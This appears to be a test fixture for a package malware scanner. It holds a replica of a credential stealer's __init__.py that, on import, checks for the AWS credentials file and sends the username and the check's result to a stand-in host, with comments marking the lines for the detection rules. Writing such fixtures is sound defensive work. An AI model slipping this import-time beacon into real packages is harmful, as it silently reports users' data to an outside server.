# canary-test: path=stealer_init/__init__.py artifact=wheel
# The stealer_init replica's shape: on import, note the AWS credentials file
# and beacon to a server (inert: only whether the file exists is sent).
import getpass
import os
import urllib.parse
import urllib.request

# ruleid: CREDENTIAL_EXFILTRATION
# ok: CREDENTIAL_PATH_ACCESS, CREDENTIAL_FILE_REFERENCE
_AWS = os.path.expanduser("~/.aws/credentials")
_q = urllib.parse.urlencode({"u": getpass.getuser(), "aws": os.path.exists(_AWS)})
# ruleid: CREDENTIAL_EXFILTRATION
try:
    # ruleid: CREDENTIAL_EXFILTRATION
    urllib.request.urlopen("https://example.invalid/b?" + _q, timeout=2)
except Exception:
    pass
